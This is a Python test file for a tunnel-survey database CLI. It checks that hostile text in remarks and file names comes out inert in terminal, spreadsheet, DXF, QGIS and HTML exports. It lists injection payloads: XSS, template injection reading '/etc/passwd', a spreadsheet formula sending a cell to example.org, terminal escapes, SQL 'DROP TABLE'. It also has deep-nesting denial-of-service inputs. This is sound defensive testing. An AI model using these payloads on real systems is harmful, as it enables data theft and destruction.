"""Remarks, captions and file names that are more than text to a program that reads them: none of them acts anywhere."""

from __future__ import annotations

import csv
import os
import re
import sqlite3
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import ezdxf
import psycopg
import pytest
from click.testing import CliRunner

from tunneldb.cli.main import main

HOSTILE = {
    "html": "</td><script>document.title='owned'</script><img src=x onerror=document.title='owned'>",
    "script": "</script><script>document.title='owned'</script><!--",
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}",
    "formula": '=HYPERLINK("http://example.org/?"&A1)',
    "drawing": "wet\n  0\nLINE\n  8\nOWNED\n 10\n0\n 20\n0\n 11\n1\n 21\n1",
    "terminal": "\x1b]0;owned\x07\x1b[2J\u202egnp.exe",
    "markup": "[/red][link=file:///etc/passwd]click[/link]",
    "sql": "'); DROP TABLE tunnel.tunnel; --",
    "expression": "' || eval('1') || '[% 1 + 1 %]",
}

TEXTS = {
    *("label", "label_from", "label_to", "kind", "kind_label", "kind_detected", "severity_label", "state", "review", "class"),
    *("survey", "old_survey", "member", "member_kind", "gauge", "track", "profile", "layer", "name", "class_name", "part"),
    *("side", "source", "direction", "edited_by", "drawn_by", "measure", "responsible", "urgency", "follow_up", "why"),
    *("scheme", "version", "result_text"),
}
"""Columns of text in map tips."""


@pytest.fixture(scope="session")
def template(example_template: str) -> str:
    return example_template


@pytest.fixture
def hostile(conn: psycopg.Connection, example: str) -> str:
    """The example survey, whose leaks and findings bear hostile texts wherever somebody may write one."""
    texts = list(HOSTILE.values())
    ids = [row[0] for row in conn.execute("SELECT id FROM tunnel.finding ORDER BY id").fetchall()]
    for number, text in enumerate(texts):
        conn.execute("UPDATE tunnel_api.leak SET remark = %s WHERE id = %s", [text, ids[number % 7]])
        finding = conn.execute(
            "INSERT INTO tunnel_api.finding_unrolled (survey_id, kind, remark, geom)"
            " VALUES ((SELECT id FROM tunnel.survey WHERE name = %s), 'crack', %s,"
            " public.ST_GeomFromText(format('LINESTRING(%%s 1, %%s 2)', %s::text, %s::text), 0)) RETURNING id",
            [example, text, 12320 + number, 12321 + number],
        ).fetchone()
        assert finding is not None
        conn.execute(
            "INSERT INTO tunnel_api.finding_photo (finding_id, path, caption) VALUES (%s, %s, %s)", [finding[0], text, text]
        )
    conn.execute("UPDATE tunnel.scan_file SET name = %s, path = %s", [HOSTILE["html"], HOSTILE["terminal"]])
    conn.commit()
    return example


def _run(*words: str) -> str:
    result = CliRunner().invoke(main, words)
    assert result.exit_code == 0, result.stderr or result.exception
    return result.output + result.stderr


def test_the_terminal_gets_no_commands(hostile: str) -> None:
    shown = _run("findings", "list", hostile) + _run("leaks", hostile) + _run("status", hostile)
    assert HOSTILE["markup"] in shown
    assert not [c for c in shown if c != "\n" and not c.isprintable()]
    assert "\\x1b]0;owned" in shown


def test_an_error_is_one_line_without_commands(hostile: str, tmp_path: Path) -> None:
    """A kind as a file has it."""
    path = tmp_path / "a.csv"
    path.write_text(f'kind,chainage,arc\n"{HOSTILE["terminal"]}",12330,1\n"a\nb",12330,1\n')
    result = CliRunner().invoke(main, ["findings", "import", hostile, str(path)])
    assert result.exit_code == 2
    assert not [c for c in result.stderr if c != "\n" and not c.isprintable()]
    path.with_name("b.geojson").write_text('{"type": "FeatureCollection", "features": []}')
    result = CliRunner().invoke(main, ["evaluate", hostile, str(path.with_name("b.geojson")), "--layer", "a\nb"])
    assert result.exit_code == 2
    assert len(result.stderr.splitlines()) == 1


def test_a_drawing_has_what_it_had(hostile: str, tmp_path: Path) -> None:
    path = tmp_path / "a.dxf"
    _run("export", hostile, "-o", str(path))
    document = ezdxf.readfile(path)
    assert not document.audit().errors
    assert not document.modelspace().query('*[layer=="OWNED"]')
    assert "OWNED" not in re.findall(r"^  8\n(.*)$", path.read_text(), re.M)


def test_tables_hold_text(hostile: str, tmp_path: Path) -> None:
    _run("findings", "list", hostile, "-o", str(tmp_path / "a.csv"))
    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
        remarks = {row["remark"] for row in csv.DictReader(file)}
    assert "'" + HOSTILE["formula"] in remarks
    assert not [text for text in remarks if text[:1] in "=+-@\t\r" and text]
    _run("findings", "list", hostile, "-o", str(tmp_path / "a.xlsx"))
    with zipfile.ZipFile(tmp_path / "a.xlsx") as book:
        pages = [book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in page or b"hyperlink" in page for page in pages)
    _run("findings", "list", hostile, "-o", str(tmp_path / "a.gpkg"))
    _run("export", hostile, "-o", str(tmp_path / "b.gpkg"))
    with sqlite3.connect(tmp_path / "a.gpkg") as base:
        (table,) = base.execute("SELECT table_name FROM gpkg_contents WHERE data_type = 'features'").fetchone()
        there = {row[0] for row in base.execute(f'SELECT remark FROM "{table}"')}
    assert set(HOSTILE.values()) <= there


def test_a_project_has_no_expression_of_theirs(hostile: str, tmp_path: Path) -> None:
    _run("qgis", hostile, "-o", str(tmp_path / "a.qgz"))
    with zipfile.ZipFile(tmp_path / "a.qgz") as packed:
        (name,) = (name for name in packed.namelist() if name.endswith(".qgs"))
        text = packed.read(name).decode()
    tips = [tip.text or "" for tip in ElementTree.fromstring(text).iter("mapTip")]
    written = re.findall(r'"(\w+)"', " ".join(tips))  # a map tip is HTML: all text is escaped, also an owner's labels and roles
    for column in {"remark", "reason", "caption"} | {name for name in written if name in TEXTS}:
        assert sum(tip.count(f'"{column}"') for tip in tips) == sum(tip.count(f'replace("{column}", map(') for tip in tips)
    assert sum("replace(" in tip for tip in tips) >= 3
    assert not [theirs for theirs in HOSTILE.values() if theirs in text]
    assert "owned" not in text


def test_a_report_runs_nothing_of_theirs(hostile: str, tmp_path: Path) -> None:
    path = tmp_path / "a.html"
    _run("report", hostile, "--from", "12310", "--to", "12330", "-o", str(path))
    text = path.read_text(encoding="utf-8")
    assert "7 * 7" in text
    assert "<script>document" not in text
    assert "<img src=x" not in text


def test_a_shape_nested_without_end_is_refused(conn: psycopg.Connection, example: str, tmp_path: Path) -> None:
    """GEOS goes down with the program when it reads 100,000 collections in each other; 6000 are what a cell of CSV holds."""
    path = tmp_path / "deep.csv"
    deep = "GEOMETRYCOLLECTION(" * 6000 + "POINT(12330 1)" + ")" * 6000
    path.write_text(f'kind,wkt\ncrack,"{deep}"\ncrack,"LINESTRING(12330 1, 12331 1)"\n')
    result = CliRunner().invoke(main, ["findings", "import", example, str(path)])
    assert result.exit_code == 2
    assert "row 2: wkt has more than 20 nested parentheses" in result.stderr
    template = tmp_path / "deep.toml"
    template.write_text("client = " + "[" * 100_000)
    result = CliRunner().invoke(main, ["report", example, "--template", str(template), "-o", str(tmp_path / "a.html")])
    assert (result.exit_code, result.stderr) == (2, f"tunneldb: {template}: its lists are nested too deep\n")
    os.truncate(template, 1 << 40)
    result = CliRunner().invoke(main, ["report", example, "--template", str(template), "-o", str(tmp_path / "a.html")])
    assert (result.exit_code, result.stderr) == (2, f"tunneldb: {template} has 1099512 MB; a template has at most 1 MB\n")
